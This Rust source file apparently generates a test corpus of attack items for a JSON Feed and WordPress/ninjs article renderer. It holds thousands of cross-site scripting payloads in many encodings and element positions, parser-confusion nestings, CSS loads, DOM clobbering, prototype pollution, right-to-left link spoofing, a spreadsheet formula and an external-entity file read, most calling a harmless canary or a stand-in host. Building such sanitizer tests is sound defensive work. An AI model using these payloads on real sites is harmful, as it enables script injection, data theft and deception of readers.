//! Attacks on whoever shows an article, of our own making: kinds, places and spellings, combined. Each is an item of a JSON
//! Feed whose script would say so by `ran()`, and whose requests would go to a host that does not exist, [`OUTSIDE`].
//!
//! What comes out is always the same, so that an attack that succeeds is named by its number and can be looked at.

use serde_json::{Value, json};

/// Where nothing may ever be asked for.
pub const OUTSIDE: &str = "ra-ngoai.invalid";

/// Text that turns the direction of what stands behind it, and characters that do not show.
pub const TURNS: [&str; 12] = [
    "\u{202e}", "\u{202d}", "\u{202b}", "\u{202a}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{200f}", "\u{061c}",
    "\u{200b}", "\u{feff}", "\u{00ad}",
];

/// One attack.
#[derive(Clone)]
pub struct Vector {
    /// What it is, for a report.
    pub what: String,
    /// The item, as JSON; a text, since some of them are no value that a tool would write.
    pub item: String,
}

/// All of them. The id of the one at `n` is `v-n`, unless the id itself is the attack.
pub fn vectors() -> Vec<Vector> {
    let mut all = Made::default();
    addresses(&mut all);
    handlers(&mut all);
    elements(&mut all);
    confused(&mut all);
    styles(&mut all);
    clobbered(&mut all);
    texts(&mut all);
    turned(&mut all);
    fields(&mut all);
    all.0
}

/// Attacks on other formats: posts of WordPress, and articles of ninjs.
pub fn posts() -> Vec<Value> {
    let bodies = bodies();
    let posts = (0..).zip(&bodies).map(|(n, body)| {
        json!({"id": n + 1, "date": "2019-03-02T07:00:00", "link": "javascript:ran()",
            "title": {"rendered": format!("Bài {n} <img src=x onerror=ran()><script>ran()</script>")},
            "excerpt": {"rendered": body}, "content": {"rendered": body},
            "_embedded": {"author": [{"name": "<svg onload=ran()>", "link": "javascript:ran()"}]}})
    });
    posts.collect()
}

/// See [`posts`].
pub fn ninjs() -> Vec<Value> {
    let bodies = bodies();
    let items = (0..).zip(&bodies).map(|(n, body)| {
        json!({"uri": format!("urn:x:{n}"), "firstCreated": "2019-03-01", "headlines": [{"value": format!("Bài {n} <b onclick=ran()>")}],
            "bodies": [{"contentType": "text/html", "value": body}], "altids": [{"role": "url", "value": "javascript:ran()"}],
            "by": "<svg onload=ran()>"})
    });
    items.collect()
}

fn bodies() -> Vec<String> {
    let mut all = Made::default();
    elements(&mut all);
    confused(&mut all);
    let html = |vector: &Vector| {
        let item: Value = serde_json::from_str(&vector.item).unwrap_or_default();
        item["content_html"].as_str().unwrap_or_default().to_owned()
    };
    all.0.iter().map(html).collect()
}

#[derive(Default)]
struct Made(Vec<Vector>);

impl Made {
    /// An article whose body is this.
    fn html(&mut self, what: impl Into<String>, html: &str) {
        self.item(what, json!({"content_html": format!("<p>Trước.</p>{html}")}));
    }

    /// An item of these fields; what every article needs is added.
    fn item(&mut self, what: impl Into<String>, mut item: Value) {
        let n = self.0.len();
        for (name, value) in [
            ("id", format!("v-{n}")),
            ("title", format!("Bài {n}")),
            ("date_published", format!("20{:02}-{:02}-{:02}", 10 + n / 336 % 20, 1 + n / 28 % 12, 1 + n % 28)),
        ] {
            if item.get(name).is_none() {
                item[name] = json!(value);
            }
        }
        if item.get("content_html").is_none() && item.get("content_text").is_none() {
            item["content_text"] = json!("Một đoạn văn.");
        }
        self.raw(what, item.to_string());
    }

    fn raw(&mut self, what: impl Into<String>, item: String) {
        self.0.push(Vector { what: what.into(), item });
    }
}

/// Spellings of an address whose scheme is its part before the first colon.
fn spellings(address: &str) -> Vec<(&'static str, String)> {
    let (scheme, rest) = address.split_once(':').unwrap_or((address, ""));
    let alternating = |(at, c): (usize, char)| if at % 2 == 0 { c.to_ascii_uppercase() } else { c };
    let mixed: String = scheme.chars().enumerate().map(alternating).collect();
    let each = |form: fn(u32) -> String| scheme.chars().map(|c| form(c.into())).collect::<String>();
    let wide: String = scheme.chars().filter_map(|c| char::from_u32(u32::from(c) + 0xFEE0)).collect();
    let within = |what: &str| format!("{}{what}{}:{rest}", &scheme[..2], &scheme[2..]);
    vec![
        ("as it is", address.to_owned()),
        ("capitals", format!("{}:{rest}", scheme.to_uppercase())),
        ("mixed case", format!("{mixed}:{rest}")),
        ("a space before", format!(" {address}")),
        ("a control character before", format!("\u{1}{address}")),
        ("many control characters before", format!("\u{1f}\u{8}\u{e} {address}")),
        ("no-break space before", format!("\u{a0}{address}")),
        ("byte order mark before", format!("\u{feff}{address}")),
        ("line separator before", format!("\u{2028}{address}")),
        ("a tab within", within("\t")),
        ("a line feed within", within("\n")),
        ("a carriage return within", within("\r\n")),
        ("a tab before the colon", format!("{scheme}\t:{rest}")),
        ("a NUL within", within("\0")),
        ("a soft hyphen within", within("\u{ad}")),
        ("a zero width space within", within("\u{200b}")),
        ("a joiner within", within("\u{200d}")),
        ("decimal references", format!("{}:{rest}", each(|c| format!("&#{c};")))),
        ("long decimal references without an end", format!("{}:{rest}", each(|c| format!("&#{c:07}")))),
        ("hexadecimal references", format!("{}:{rest}", each(|c| format!("&#x{c:x};")))),
        ("hexadecimal references, capitals, no end", format!("{}&#X3A{rest}", each(|c| format!("&#X{c:06X}")))),
        ("a named tab within", within("&Tab;")),
        ("a named line feed within", within("&NewLine;")),
        ("a named colon", format!("{scheme}&colon;{rest}")),
        ("references of references", format!("{}&amp;#58;{rest}", scheme)),
        ("percent in the scheme", format!("{}:{rest}", each(|c| format!("%{c:02x}")))),
        ("a percent colon", format!("{scheme}%3A{rest}")),
        ("wide letters", format!("{wide}:{rest}")),
        ("a wide colon", format!("{scheme}\u{ff1a}{rest}")),
        ("behind a view of the source", format!("view-source:{address}")),
        ("behind a feed", format!("feed:{address}")),
        ("behind a jar", format!("jar:{address}!/x")),
        ("two of them", format!("{scheme}:{address}")),
        ("a comment behind", format!("{scheme}://%0a{rest}")),
        ("with a name before", format!("{scheme}://x@y/%0d%0a{rest}")),
        ("a turn before", format!("\u{202e}{address}")),
    ]
}

/// Every place of an address, with every spelling of a script; other schemes where they matter.
fn addresses(all: &mut Made) {
    let places: [(&str, &str); 46] = [
        ("a", "<a href=\"@\">bấm</a>"),
        ("a, no quotes", "<a href=@ >bấm</a>"),
        ("a, single quotes", "<a href='@'>bấm</a>"),
        ("a, twice", "<a href=\"https://vi-du.vn/\" href=\"@\">bấm</a>"),
        ("a with ping", "<a href=\"#x\" ping=\"@\">bấm</a>"),
        ("a to a frame", "<a href=\"@\" target=\"_top\">bấm</a>"),
        ("a that opens", "<a href=\"@\" rel=\"opener\" target=\"khobao\">bấm</a>"),
        ("a around a picture", "<a href=\"@\"><img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" alt=\"\"></a>"),
        (
            "area",
            "<map name=m><area href=\"@\" shape=default></map><img usemap=#m src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">",
        ),
        ("img", "<img src=\"@\">"),
        ("img, late", "<img data-src=\"@\">"),
        ("img, set", "<img srcset=\"@ 1x\">"),
        ("picture", "<picture><source srcset=\"@\"><img alt=x></picture>"),
        ("image", "<image src=\"@\">"),
        ("figure", "<figure><a href=\"@\"><img src=\"@\"></a><figcaption><a href=\"@\">chú</a></figcaption></figure>"),
        ("input", "<input type=image src=\"@\">"),
        ("iframe", "<iframe src=\"@\"></iframe>"),
        ("frame", "<frameset><frame src=\"@\"></frameset>"),
        ("embed", "<embed src=\"@\">"),
        ("object", "<object data=\"@\"></object>"),
        ("object's parameter", "<object><param name=movie value=\"@\"></object>"),
        ("applet", "<applet code=x codebase=\"@\"></applet>"),
        ("form", "<form action=\"@\"><button>gửi</button></form>"),
        ("button", "<form><button formaction=\"@\">gửi</button></form>"),
        ("isindex", "<isindex action=\"@\" type=image>"),
        ("base", "<base href=\"@\"><a href=\"x\">bấm</a>"),
        ("link", "<link rel=stylesheet href=\"@\">"),
        ("import", "<link rel=import href=\"@\">"),
        ("refresh", "<meta http-equiv=refresh content=\"0;url=@\">"),
        ("script", "<script src=\"@\"></script>"),
        ("video", "<video src=\"@\" poster=\"@\" autoplay></video>"),
        ("audio", "<audio src=\"@\" autoplay></audio>"),
        ("source", "<video><source src=\"@\"></video>"),
        ("track", "<video><track src=\"@\" default></video>"),
        ("body", "<body background=\"@\">"),
        ("table", "<table background=\"@\"><tr><td background=\"@\"><a href=\"@\">ô</a></td></tr></table>"),
        ("quote", "<blockquote cite=\"@\"><q cite=\"@\">lời</q></blockquote>"),
        ("svg a", "<svg><a href=\"@\"><text y=20>bấm</text></a></svg>"),
        ("svg a, old", "<svg><a xlink:href=\"@\"><text y=20>bấm</text></a></svg>"),
        ("svg use", "<svg><use href=\"@\" /></svg>"),
        ("svg image", "<svg><image href=\"@\" /></svg>"),
        ("svg animate", "<svg><a><animate attributeName=href values=\"@\" /><text y=20>bấm</text></a></svg>"),
        ("svg set", "<svg><a><set attributeName=xlink:href to=\"@\" /><text y=20>bấm</text></a></svg>"),
        ("svg script", "<svg><script href=\"@\" /></svg>"),
        ("math", "<math href=\"@\"><mtext>bấm</mtext></math>"),
        ("maction", "<math><maction actiontype=statusline xlink:href=\"@\">bấm</maction></math>"),
    ];
    for (place, html) in places {
        for (spelling, address) in spellings("javascript:ran()") {
            all.html(format!("a script's address, {spelling}, in {place}"), &html.replace('@', &address));
        }
    }
    let others = [
        "data:text/html,<script>parent.ran()</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=",
        "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>parent.ran()</x:script>",
        "data:image/svg+xml;x,<script>parent.ran()</script>",
        "data:,ran()",
        "vbscript:ran()",
        "livescript:ran()",
        "blob:null/6b0f4f6e-1f5c-4f5e-9d5e-000000000000",
        "filesystem:http://127.0.0.1/temporary/x",
        "file:///etc/hostname",
        "about:blank",
        "ws://ra-ngoai.invalid/",
        "chrome://settings/",
        "resource://gre/",
        "intent://ra-ngoai.invalid/#Intent;scheme=http;end",
    ];
    for address in others {
        for (place, html) in places {
            // A picture of its own kind is let in as what it is.
            if !(address.starts_with("data:image/") && html.contains("img")) {
                all.html(format!("{address} in {place}"), &html.replace('@', &address.replace('<', "&lt;")));
            }
        }
    }
    // What would be fetched without a press.
    for (place, html) in places.iter().filter(|(_, html)| {
        !["<a ", "<area", "img", "image", "figure", "picture"].iter().any(|kind| html.contains(kind))
    }) {
        all.html(format!("another host in {place}"), &html.replace('@', &format!("http://{OUTSIDE}/x")));
        all.html(format!("another host without a scheme in {place}"), &html.replace('@', &format!("//{OUTSIDE}/x")));
    }
}

/// Handlers of events, as they are spelled.
fn handlers(all: &mut Made) {
    let events = [
        "onerror",
        "onload",
        "onfocus",
        "onmouseover",
        "ontoggle",
        "onbegin",
        "onanimationstart",
        "onpointerenter",
        "onbeforematch",
        "oncontentvisibilityautostatechange",
        "onscrollend",
        "onpageshow",
    ];
    let elements = [
        "img src=x",
        "svg",
        "body",
        "details open",
        "input autofocus",
        "video src=x",
        "p tabindex=0",
        "a href=x",
        "table",
        "math",
        "marquee",
        "style",
        "x-kho-bao contenteditable",
    ];
    for event in events {
        for element in elements {
            let name = element.split(' ').next().unwrap_or(element);
            all.html(format!("{event} of {name}"), &format!("<{element} {event}=\"ran()\">chữ</{name}>"));
        }
        let upper = event.to_uppercase();
        for (what, html) in [
            ("no quotes", format!("<img src=x {event}=ran()>")),
            ("a slash before", format!("<img/src=x/{event}=ran()>")),
            ("capitals", format!("<IMG SRC=x {upper}=ran()>")),
            ("a line feed before", format!("<img\nsrc=x\n{event}\n=\nran()>")),
            ("a form feed before", format!("<svg\u{c}{event}=ran()>")),
            ("a NUL in the tag", format!("<i\0mg src=x {event}=ran()>")),
            ("references", format!("<img src=x {event}=&#114;an&lpar;&rpar;>")),
            ("a quote that ends early", format!("<img alt=\"x\"{event}=ran() src=x>")),
            (
                "a quote that does not end",
                format!("<img src=x alt=\"{event}=ran()><p title=\"> <img src=x {event}=ran()>"),
            ),
            ("back ticks", format!("<img alt=`x {event}=ran() src=x`>")),
            ("a tag that does not end", format!("<svg {event}=ran()//")),
            ("two signs", format!("<<img src=x {event}=ran()>")),
        ] {
            all.html(format!("{event}, {what}"), &html);
        }
    }
}

/// Elements that run, load or send by themselves.
fn elements(all: &mut Made) {
    let list = [
        "<script>ran()</script>",
        "<ScRiPt>ran()</sCrIpT>",
        "<script\n>ran()</script\n>",
        "<script/x>ran()</script>",
        "<script>ran()",
        "<scr<script>ipt>ran()</scr</script>ipt>",
        "<script type=module>ran()</script>",
        "<script type=text/vbscript>ran()</script>",
        "<script>/*</p>*/ran()</script>",
        "<\u{ff1c}script>ran()</script>",
        "&lt;script&gt;ran()&lt;/script&gt;",
        "\u{ff1c}script\u{ff1e}ran()\u{ff1c}/script\u{ff1e}",
        "+ADw-script+AD4-ran()+ADw-/script+AD4-",
        "<iframe srcdoc=\"<script>parent.ran()</script>\"></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.ran()&lt;/script&gt;'></iframe>",
        "<iframe src=//ra-ngoai.invalid/></iframe>",
        "<iframe><script>parent.ran()</script></iframe>",
        "<fencedframe></fencedframe>",
        "<object type=text/html data=//ra-ngoai.invalid/></object>",
        "<embed type=image/svg+xml src=//ra-ngoai.invalid/x.svg>",
        "<base href=//ra-ngoai.invalid/><img src=x.png alt=''>",
        "<base target=_top>",
        "<meta http-equiv=refresh content=0;url=//ra-ngoai.invalid/>",
        "<meta http-equiv=Set-Cookie content=a=b>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
        "<meta charset=utf-7>",
        "<link rel=stylesheet href=//ra-ngoai.invalid/x.css>",
        "<link rel=preload as=script href=//ra-ngoai.invalid/x>",
        "<link rel=prefetch href=//ra-ngoai.invalid/x>",
        "<link rel=dns-prefetch href=//ra-ngoai.invalid>",
        "<link rel=manifest href=//ra-ngoai.invalid/>",
        "<form action=//ra-ngoai.invalid/><input name=x><input type=submit></form>",
        "<form id=f></form><button form=f formaction=javascript:ran()>x</button>",
        "<input autofocus onfocus=ran()>",
        "<textarea autofocus onfocus=ran()></textarea>",
        "<select autofocus onfocus=ran()></select>",
        "<keygen autofocus onfocus=ran()>",
        "<isindex type=image src=1 onerror=ran()>",
        "<button popovertarget=p>x</button><p popover id=p>x",
        "<svg><script>ran()</script></svg>",
        "<svg><script xlink:href=//ra-ngoai.invalid/x.js></script></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.ran()</script>'></iframe></foreignObject></svg>",
        "<svg><foreignObject><body onload=ran()></foreignObject></svg>",
        "<svg><style>@import '//ra-ngoai.invalid/x.css';</style></svg>",
        "<svg><image xlink:href=//ra-ngoai.invalid/x.svg></svg>",
        "<svg><use href=//ra-ngoai.invalid/x.svg#a></svg>",
        "<svg><feImage href=//ra-ngoai.invalid/x.svg></svg>",
        "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
        "<svg><set attributeName=onmouseover to=ran()></svg>",
        "<svg><handler type=text/javascript>ran()</handler></svg>",
        "<svg><discard onbegin=ran()></svg>",
        "<svg><a><rect width=99 height=99/><animate attributeName=href to=javascript:ran()></a></svg>",
        "<math><mtext><script>ran()</script></mtext></math>",
        "<math><annotation-xml encoding=text/html><script>ran()</script></annotation-xml></math>",
        "<math><semantics><annotation-xml><svg><script>ran()</script></svg></annotation-xml></semantics></math>",
        "<math><mglyph src=//ra-ngoai.invalid/x></math>",
        "<video><source onerror=ran()></video>",
        "<audio src onerror=ran()></audio>",
        "<video autoplay poster=//ra-ngoai.invalid/x><source src=//ra-ngoai.invalid/x.mp4></video>",
        "<bgsound src=//ra-ngoai.invalid/x>",
        "<marquee onstart=ran()>x</marquee>",
        "<details open ontoggle=ran()>x</details>",
        "<dialog open onclose=ran()>x</dialog>",
        "<xss style=animation:x onanimationstart=ran()>",
        "<kho-bao src=//ra-ngoai.invalid/feed.json></kho-bao>",
        "<portal src=//ra-ngoai.invalid/></portal>",
        "<slot name=x onslotchange=ran()></slot>",
        "<p is=kho-bao>x</p>",
        "<layer src=//ra-ngoai.invalid/></layer>",
        "<ilayer src=//ra-ngoai.invalid/></ilayer>",
        "<xml id=x><script>ran()</script></xml>",
        "<?xml-stylesheet href='javascript:ran()'?>",
        "<?php ran() ?>",
        "<!ENTITY x SYSTEM 'file:///etc/hostname'>&x;",
        "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
        "<%ran()%>",
        "{{constructor.constructor('ran()')()}}",
        "${ran()}",
        "<div v-html=\"'<img src=x onerror=ran()>'\">x</div>",
        "<frameset onload=ran()><frame src=//ra-ngoai.invalid/></frameset>",
        "<noframes><script>ran()</script></noframes>",
    ];
    for html in list {
        all.html(format!("by itself: {html}"), html);
    }
}

/// What a parser may read as something else than another one: the same attack within what hides or moves it.
fn confused(all: &mut Made) {
    let inner = [
        "<img src=x onerror=ran()>",
        "<script>ran()</script>",
        "<a href=javascript:ran()>x</a>",
        "<svg onload=ran()>",
        "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
        "<style>@import '//ra-ngoai.invalid/x.css'</style>",
    ];
    let outer = [
        "<table>@</table>",
        "<table><tr>@<td>x</table>",
        "<table><caption>@</caption></table>",
        "<select>@</select>",
        "<select><option>@</select>",
        "<template>@</template>",
        "<template shadowrootmode=open>@</template>",
        "<noscript>@</noscript>",
        "<noscript><p title=\"</noscript>@\"></noscript>",
        "<textarea>@</textarea>",
        "<textarea></textarea >@",
        "<title>@</title>",
        "<title></title>@",
        "<xmp>@</xmp>",
        "<xmp><p title=\"</xmp>@\">",
        "<plaintext>@",
        "<noembed>@</noembed>",
        "<noframes>@</noframes>",
        "<style>@</style>",
        "<style><a title=\"</style>@\">",
        "<iframe>@</iframe>",
        "<iframe><a title=\"</iframe>@\">",
        "<!--@-->",
        "<!-->@-->",
        "<!--->@-->",
        "<!-- --!>@-->",
        "<!-- -- >@-->",
        "<![CDATA[@]]>",
        "<![CDATA[ ]]>@",
        "<!x @>",
        "<!@>",
        "<?@>",
        "</@>",
        "</p @>",
        "<svg>@</svg>",
        "<svg><![CDATA[@]]></svg>",
        "<svg></p>@</svg>",
        "<svg><style><p title=\"</style>@\">",
        "<svg><title>@</title></svg>",
        "<svg><desc>@</desc></svg>",
        "<math>@</math>",
        "<math><mtext>@</mtext></math>",
        "<math><mi><table><mglyph><style><!--</style>@--></style>",
        "<math><annotation-xml encoding='application/xhtml+xml'>@</annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>@\">",
        "<svg><p><style><a id=\"</style>@\">",
        "<p><svg><foreignObject><p>@",
        "<a><a>@</a></a>",
        "<b><p><i></b>@</i></p>",
        "<p title='<!--'>@<p title='-->'>",
        "<p title=\"'>@\">'",
        "<p \"=\">@<p \">",
        "<li><table><li>@</table>",
        "<frameset>@</frameset>",
        "<head>@</head>",
        "<body>@</body>",
        "<html>@</html>",
        "<script><!--<script>@</script>--></script>@",
        "<script>/*</script>@/*",
        "<pre>\n@</pre>",
        "<listing>@</listing>",
        "<object>@</object>",
        "<applet>@</applet>",
        "<marquee>@</marquee>",
        "<video>@</video>",
        "<canvas>@</canvas>",
        "<ruby><rt>@</rt></ruby>",
        "<details><summary>@</summary></details>",
        "<q>@</q>",
        "<h1>@</h1>",
        "<dl><dt>@<dd>x</dl>",
        "<figure><figcaption>@</figcaption></figure>",
        "<blockquote>@</blockquote>",
    ];
    for place in outer {
        for attack in inner {
            all.html(format!("{attack} in {place}"), &place.replace('@', attack));
        }
    }
}

/// Styles, which could load, cover or pretend.
fn styles(all: &mut Made) {
    let list = [
        "position:fixed;inset:0;z-index:9999",
        "background:url(//ra-ngoai.invalid/x)",
        "background:u\\72l(//ra-ngoai.invalid/x)",
        "width:expression(ran())",
        "behavior:url(#default#time2)",
        "-moz-binding:url(//ra-ngoai.invalid/x)",
        "content:url(//ra-ngoai.invalid/x)",
        "list-style:url(//ra-ngoai.invalid/x)",
        "cursor:url(//ra-ngoai.invalid/x),auto",
        "mask:url(//ra-ngoai.invalid/x)",
        "filter:url(//ra-ngoai.invalid/x#a)",
        "font-family:'x';src:url(//ra-ngoai.invalid/x)",
        "--row:0;--above:99999999",
        "display:none",
        "animation:x 1s",
        "background:image-set('//ra-ngoai.invalid/x' 1x)",
    ];
    for style in list {
        for html in [
            format!("<p style=\"{style}\">x</p>"),
            format!("<p data-style=\"{style}\">x</p>"),
            format!("<style>*{{{style}}}</style>"),
            format!("<svg style=\"{style}\"></svg>"),
            format!("<img alt=x style='{style}'>"),
            format!("<font style=\"{style}\">x</font>"),
            format!("<td style=\"{style}\">x</td>"),
            format!("<a href=# style=\"{style}\">x</a>"),
        ] {
            all.html(format!("a style: {html}"), &html);
        }
    }
    for (name, value) in [
        ("class", "app"),
        ("class", "dialog open"),
        ("data-p", "1"),
        ("data-id", "v-0"),
        ("data-rest", "javascript:ran()"),
        ("data-sign", "1"),
        ("data-release", "x"),
        ("data-sample", ""),
        ("slot", "x"),
        ("part", "x"),
        ("hidden", "until-found"),
        ("contenteditable", ""),
        ("accesskey", "x"),
        ("tabindex", "1"),
        ("autofocus", ""),
        ("popover", ""),
        ("inert", ""),
        ("role", "alert"),
        ("aria-hidden", "true"),
        ("is", "kho-bao"),
        ("nonce", "x"),
        ("dir", "rtl"),
        ("lang", "\"><img src=x onerror=ran()>"),
    ] {
        for element in ["p", "a href=#", "img alt=x", "table", "link", "script"] {
            all.html(format!("{name} of {element}"), &format!("<{element} {name}='{value}'>x</{element}>"));
        }
    }
}

/// Names that stand in the way of what a script asks the document for.
fn clobbered(all: &mut Made) {
    let names = [
        "khobao",
        "search",
        "body",
        "documentElement",
        "head",
        "results",
        "settings",
        "facets",
        "problems",
        "timeline",
        "everything",
        "file",
        "lang",
        "theme",
        "from",
        "to",
        "location",
        "document",
        "self",
        "parent",
        "top",
        "getElementById",
        "querySelector",
        "createElement",
        "cookie",
        "forms",
        "trusted",
        "fetchFile",
        "readBundle",
        "fetchRest",
        "loadRest",
        "offline",
        "browserDoes",
        "currentScript",
        "crypto",
        "__proto__",
        "constructor",
        "trustedTypes",
    ];
    for name in names {
        all.html(format!("clobbers {name}"), &format!(
            "<form id={name} name={name}><input id={name} name={name}></form><a id={name} name={name} href=x>x</a><img name={name} alt=x><iframe name={name}></iframe>"));
        all.item(format!("an id {name}"), json!({"id": name}));
    }
}

/// Markup where text belongs.
fn texts(all: &mut Made) {
    let payloads = [
        "<script>ran()</script>",
        "<img src=x onerror=ran()>",
        "\"><svg onload=ran()>",
        "'-ran()-'",
        "</title><script>ran()</script>",
        "javascript:ran()",
        "]]><script>ran()</script>",
        "--><script>ran()</script>",
        "\\u003cscript\\u003eran()\\u003c/script\\u003e",
        "&lt;img src=x onerror=ran()&gt;",
        "&#60;script>ran()&#60;/script>",
        "${ran()}",
        "=HYPERLINK(\"http://ra-ngoai.invalid/\")",
        "\r\n\r\n<script>ran()</script>",
        "\0<script>ran()</script>",
        "\u{2028}ran()//",
        "%3Cscript%3Eran()%3C/script%3E",
        "@import '//ra-ngoai.invalid/'",
    ];
    for text in payloads {
        let field = |name: &str| format!("{name}: {text}");
        all.item(field("title"), json!({"title": text}));
        all.item(field("summary"), json!({"summary": text}));
        all.item(field("text"), json!({"content_text": text}));
        all.item(field("id"), json!({"id": format!("{text} {}", all.0.len())}));
        all.item(field("tags"), json!({"tags": [text, format!("{text}2")]}));
        all.item(field("author"), json!({"authors": [{"name": text, "url": text, "avatar": text}]}));
        all.item(field("language"), json!({"language": text}));
        all.item(field("date"), json!({"date_published": text, "date_modified": text}));
        all.item(field("addresses"), json!({"url": text, "external_url": text, "image": text, "banner_image": text}));
        all.item(field("attachments"), json!({"attachments": [{"url": text, "mime_type": text, "title": text}]}));
        for name in ["section", "place", "source"] {
            all.item(field(name), json!({"_khobao": {name: text}}));
        }
        all.item(field("documents"), json!({"_khobao": {"documents": [text], "source": {"name": text, "url": text}, "figures": [{"src": text, "caption": text}]}}));
        all.html(field("alt"), &format!("<figure><img alt=\"{0}\" src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\"><figcaption>{0}</figcaption></figure>", text.replace('"', "&quot;")));
    }
}

/// Directions that a text turns, and links that pretend.
fn turned(all: &mut Made) {
    for turn in TURNS {
        all.item("a turn in the title", json!({"title": format!("Bài {turn}gpj.exe đã đổi {turn}chiều")}));
        all.item("a turn in a tag", json!({"tags": [format!("nhãn{turn} một"), "nhãn hai"]}));
        all.item("a turn in a name", json!({"authors": [{"name": format!("Mây{turn} Nguyễn")}, {"name": "Sông"}]}));
        all.item("a turn in a section", json!({"_khobao": {"section": format!("Mục{turn} lục"), "place": "Na Rì"}}));
        all.item("a turn in the lead", json!({"summary": format!("Lời {turn}dẫn.")}));
        all.html(
            "a turn in a link",
            &format!("<p>Xem <a href=\"https://{OUTSIDE}/\">{turn}nv.ud-iv//:sptth</a> rồi về.</p>"),
        );
    }
    for said in [
        "https://vi-du.vn/",
        "vi-du.vn",
        "HTTP://VI-DU.VN/bai",
        "www.vi-du.vn",
        " vi-du.vn/bai?x=1",
        "http://vi-du.vn@ra-ngoai.invalid/",
    ] {
        all.html(
            format!("a link that says {said}"),
            &format!("<p><a class=gia href=\"https://{OUTSIDE}/{{}}\">{said}</a></p>"),
        );
    }
}

/// What a reader of JSON may fall for, in every field.
fn fields(all: &mut Made) {
    let names = [
        "id",
        "title",
        "summary",
        "content_html",
        "content_text",
        "url",
        "external_url",
        "image",
        "banner_image",
        "date_published",
        "authors",
        "author",
        "tags",
        "language",
        "attachments",
        "_khobao",
    ];
    let values = [
        "null",
        "true",
        "-0",
        "1e999",
        "\"\\ud800\"",
        "\"\\u0000\"",
        "[]",
        "{}",
        "[[[[[[[[]]]]]]]]",
        "{\"__proto__\":{\"onload\":\"ran()\"}}",
        "{\"toString\":\"ran()\",\"length\":-1}",
        "[null,{\"name\":{\"name\":\"<svg onload=ran()>\"}},7]",
    ];
    for name in names {
        for value in values {
            let n = all.0.len();
            let own = [
                ("id", format!("\"v-{n}\"")),
                ("title", format!("\"Bài {n}\"")),
                ("content_text", "\"Chữ.\"".to_owned()),
            ];
            let mut members: Vec<String> =
                own.iter().filter(|(own, _)| *own != name).map(|(name, value)| format!("\"{name}\":{value}")).collect();
            members.push(format!("\"{name}\":{value}"));
            all.raw(format!("{name} is {value}"), format!("{{{}}}", members.join(",")));
        }
    }
    for odd in [
        "\"__proto__\":{\"title\":\"<svg onload=ran()>\"},",
        "\"constructor\":{\"prototype\":{}},",
        "\"title\":\"một\",\"title\":\"<svg onload=ran()>\",",
        "\"\":\"ran()\",",
    ] {
        let n = all.0.len();
        all.raw(format!("a member {odd}"), format!("{{{odd}\"id\":\"v-{n}\",\"content_text\":\"Chữ.\"}}"));
    }
}
